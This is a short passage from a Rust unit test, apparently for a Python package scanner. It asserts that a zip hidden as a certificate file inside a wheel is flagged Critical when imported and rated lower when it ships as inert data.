        let hit = f.iter().find(|f| f.file.as_deref() == Some("pkg/cert.crt!/x.py"));
        assert!(hit.is_some_and(|f| f.severity == Severity::Critical), "{f:?}");
        // No error at high: the same zip shipped as data nobody imports.
        let f = inspect_bytes("pkg-1.0-py3-none-any.whl", &wheel("__all__ = []\n", &payload)).findings;
        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
    }
}
